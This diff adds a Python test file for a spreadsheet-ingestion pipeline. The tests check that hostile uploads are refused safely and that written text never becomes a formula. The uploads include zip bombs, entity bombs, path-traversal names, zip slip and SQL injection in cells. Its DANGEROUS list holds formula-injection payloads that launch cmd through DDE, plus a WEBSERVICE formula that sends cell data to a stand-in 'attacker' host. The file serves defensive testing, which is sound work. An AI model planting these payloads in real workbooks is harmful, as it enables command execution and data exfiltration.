@@ -1,0 +1,223 @@
+"""Hostile and broken input (issue #7): every file of tests/hostile_corpus.py is refused or read safely with a
+clear reason, in one ``ccn run`` that also loads a clean sample exactly as its truth says; inspection costs
+bounded memory; limits come from the environment; text we write never becomes a formula."""
+
+from __future__ import annotations
+
+import math
+import tracemalloc
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from sqlalchemy import text
+
+from tests.helpers import ccn, engine, view
+from tests.hostile_corpus import FLAGGED, READ, REFUSED, REJECTED, build
+
+ACTIVE = {"accepted", "accepted_with_warnings"}
+
+
+@pytest.fixture(scope="session")
+def base_dir(tmp_path_factory) -> Path:
+    """A small 2025-Y sample of one province: the valid workbooks the hostile variants are made from."""
+    from pipelines.sample import Profile, generate
+    from schemas.periods import Period
+
+    out = tmp_path_factory.mktemp("hostile_base")
+    generate(out, Period.parse("2025-Y"), provinces=1, seed=11, profile=Profile(communes=(3, 3), clusters=(6, 6)))
+    return out
+
+
+@pytest.fixture(scope="session")
+def corpus_dir(tmp_path_factory, base_dir) -> tuple[Path, list]:
+    out = tmp_path_factory.mktemp("hostile_corpus")
+    return out, build(out, base_dir)
+
+
+def _truth_values(base_dir: Path, base: str) -> dict[str, float]:
+    import json
+
+    truth = json.loads((base_dir / "truth.json").read_text(encoding="utf-8"))
+    return next(f for f in truth["files"] if f["file"] == base)["reports"][0]["values"]
+
+
+def test_hostile_corpus_refused_or_read_safely_while_the_sample_loads(inbox, truth, base_dir, home):
+    cases = build(inbox, base_dir)
+    assert len(cases) >= 30
+    # a name starting with a dot is an upload in progress (rsync, WinSCP): never taken, whatever follows
+    (inbox / "hostile" / "..\\..\\an.xlsx").write_bytes((inbox / cases[-1].path).read_bytes() + b"\0")
+    assert ccn("run") == 0
+
+    subs = view("mart_submissions")
+    issues = view("mart_validation_issues")
+    values = view("mart_indicator_values")
+    counts = {REFUSED: 0, REJECTED: 0, READ: 0, FLAGGED: 0}
+    wrong = []  # every case checked, all differences reported at once
+    for case in cases:
+        name = Path(case.path).name
+        mine = subs[subs.file_name == name]
+        if len(mine) != 1:
+            wrong.append((case.what, f"{len(mine)} submissions"))
+            continue
+        sub = mine.iloc[0]
+        found = issues[issues.submission_id == sub.submission_id]
+        rules = set(found.rule_id)
+        messages = list(found.message)
+        counts[case.outcome] += 1
+        if case.outcome == REFUSED:
+            if sub.status != "rejected" or not pd.isna(sub.form) or rules != {case.rule}:
+                wrong.append((case.what, sub.status, sub.form, rules))
+            elif case.reason.lower() not in messages[0].lower() or "—" not in messages[0]:
+                wrong.append((case.what, messages[0]))
+        elif case.outcome in (REJECTED, FLAGGED):
+            hit = found[found.rule_id == case.rule]
+            status = "rejected" if case.outcome == REJECTED else "accepted_with_warnings"
+            if sub.status != status or hit.empty:
+                wrong.append((case.what, sub.status, rules))
+            elif case.cell and case.cell not in set(hit.cell):
+                wrong.append((case.what, "cell", case.cell, list(hit.cell)))
+            elif case.reason and not any(case.reason in m for m in hit.message):
+                wrong.append((case.what, list(hit.message)))
+        else:
+            if sub.status not in ACTIVE:
+                wrong.append((case.what, sub.status, messages))
+                continue
+            if case.rule and (case.rule not in rules or set(found[found.rule_id == case.rule].severity) != {"warning"}):
+                wrong.append((case.what, "warning missing", rules))
+            got = {r.indicator_code: r.value for r in values[values.submission_id == sub.submission_id].itertuples()}
+            expected = _truth_values(base_dir, case.base)
+            if got.keys() != expected.keys() or any(
+                    not math.isclose(got[c], v, rel_tol=1e-9, abs_tol=1e-9) for c, v in expected.items()):
+                wrong.append((case.what, "values", got, expected))
+    assert not wrong, wrong
+    assert counts[REFUSED] >= 25 and counts[READ] >= 10, counts
+
+    # the clean sample of the same run loaded exactly as its truth says
+    by_name = {f["file"].rsplit("/", 1)[-1]: f for f in truth["files"]}
+    sample = subs[subs.file_name.isin(by_name)]
+    assert len(sample) == truth["counts"]["submissions"]
+    for row in sample.itertuples():
+        assert row.status == by_name[row.file_name]["expected_status"], row.file_name
+
+    # SQL in cells is data: the tables are intact and the text is stored as typed
+    eng = engine()
+    try:
+        with eng.connect() as conn:
+            names = [r[0] for r in conn.execute(text("SELECT name FROM project WHERE name LIKE '%DROP TABLE%'"))]
+            archived = [r[0] for r in conn.execute(text("SELECT archive_path FROM received_file"))]
+    finally:
+        eng.dispose()
+    assert names and names[0].startswith("Robert'); DROP TABLE submission;--"), names
+    assert "..\\..\\an.xlsx" not in set(view("mart_submissions").file_name)
+    archive = (home / "archive").resolve()
+    assert all(Path(p).resolve().is_relative_to(archive) for p in archived)
+    assert not Path("/tmp/ccn_zip_slip.txt").exists()
+
+
+REFUSED_BY_INSPECTION = 8 << 20  # bytes of Python memory the inspection of any corpus file may peak at
+
+
+def test_inspection_memory_is_bounded(corpus_dir, monkeypatch):
+    """Zip bombs, a million rows, 16,384 columns and entity bombs are refused by streaming, in bounded memory."""
+    from pipelines import safety
+
+    monkeypatch.setenv("CCN_MAX_CELLS", "50000")  # the 600,000-cell sheet stops sooner; tracemalloc is slow
+
+    root, cases = corpus_dir
+    peaks = {}
+    for case in cases:
+        path = root / case.path
+        if case.outcome != REFUSED or case.rule != "file.unreadable":
+            continue
+        tracemalloc.start()
+        try:
+            with pytest.raises(safety.Refused) as refused:
+                safety.inspect(path)
+            peaks[case.path] = tracemalloc.get_traced_memory()[1]
+        finally:
+            tracemalloc.stop()
+        assert case.reason.lower() in str(refused.value).lower(), (case.what, str(refused.value))
+    big = {p: v for p, v in peaks.items() if v > REFUSED_BY_INSPECTION}
+    assert not big, big
+    assert {"hostile/bom_that_1gb.xlsx", "hostile/trieu_dong.xlsx", "hostile/goc_xa.xlsx"} <= set(peaks)
+
+
+def test_declared_and_real_sizes_both_checked(corpus_dir):
+    """The lying bomb declares 2 KB; the inspection stops one chunk past the declaration, not at 1 GiB."""
+    from pipelines import safety
+
+    root, _ = corpus_dir
+    with zipfile.ZipFile(root / "hostile/bom_that_1gb.xlsx") as z:
+        info = z.getinfo("xl/sharedStrings.xml")
+    assert info.file_size == 2048 and info.compress_size > 1_000_000
+    fed = []
+    original = safety._DtdScan.feed
+    try:
+        safety._DtdScan.feed = lambda self, data: (fed.append(len(data)), original(self, data))[1]
+        with pytest.raises(safety.Refused, match="beyond its declared"):
+            safety.inspect(root / "hostile/bom_that_1gb.xlsx")
+    finally:
+        safety._DtdScan.feed = original
+    assert sum(fed) <= 2048  # never more than the declared size reached the XML scan
+
+
+def test_limits_are_settings(monkeypatch, base_dir):
+    from pipelines import safety
+    from pipelines.reader import read_workbook
+    from pipelines.settings import Limits
+
+    valid = next(base_dir.rglob("bieu04_*.xlsx"))
+    assert read_workbook(valid).reports  # within the defaults
+    defaults = Limits()
+    assert (defaults.max_file_bytes, defaults.max_uncompressed_bytes, defaults.max_rows, defaults.max_columns,
+            defaults.max_cells) == (20 << 20, 100 << 20, 10_000, 256, 500_000)
+    for var, reason in [("CCN_MAX_ROWS", "rows"), ("CCN_MAX_COLUMNS", "columns"), ("CCN_MAX_CELLS", "cells")]:
+        monkeypatch.setenv(var, "3")
+        with pytest.raises(safety.Refused, match=var):
+            safety.inspect(valid)
+        reading = read_workbook(valid)
+        assert not reading.reports and reason in reading.findings[0].message
+        monkeypatch.delenv(var)
+    monkeypatch.setenv("CCN_MAX_FILE_MB", "0")
+    with pytest.raises(ValueError, match="CCN_MAX_FILE_MB"):
+        Limits()
+    monkeypatch.setenv("CCN_MAX_FILE_MB", "lots")
+    with pytest.raises(ValueError, match="CCN_MAX_FILE_MB"):
+        Limits()
+    monkeypatch.delenv("CCN_MAX_FILE_MB")
+    monkeypatch.setenv("CCN_MAX_UNCOMPRESSED_MB", "1")
+    size = sum(i.file_size for i in zipfile.ZipFile(valid).infolist())
+    assert size < 1 << 20 and safety.inspect(valid).kind == "xlsx"
+
+
+DANGEROUS = ["=cmd|'/c calc'!A1", "=HYPERLINK(\"http://x\",\"y\")", "+1+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|'/c calc'!A1",
+             "=1+1", "-2+3+cmd|'/c calc'!A1", "=WEBSERVICE(\"http://attacker/\"&A1)"]
+
+
+def test_text_from_input_never_becomes_a_formula(tmp_path):
+    """templates.write_form writes every string as text, whatever it starts with."""
+    from openpyxl import Workbook, load_workbook
+
+    from pipelines.templates import FormContent, Identification, write_form
+    from schemas.forms import load_forms
+    from schemas.periods import Period
+
+    spec = load_forms()["04"]
+    ident = Identification(province=DANGEROUS[0], sender=DANGEROUS[1], period=Period.parse("2025-Y"))
+    values = {row.code: DANGEROUS[i % len(DANGEROUS)] for i, row in enumerate(spec.rows)}
+    wb = Workbook()
+    cells = write_form(wb.active, FormContent("04", ident, values))
+    path = tmp_path / "out.xlsx"
+    wb.save(path)
+
+    back = load_workbook(path).active
+    written = {c.value for row in back.iter_rows() for c in row if isinstance(c.value, str)}
+    assert set(DANGEROUS) <= written | {v for v in written if any(d in v for d in DANGEROUS)}
+    assert all(c.data_type != "f" for row in back.iter_rows() for c in row)
+    for code, ref in cells.items():
+        assert back[ref].value == values[code] and back[ref].data_type == "s"
+    with zipfile.ZipFile(path) as z:
+        sheet_xml = z.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
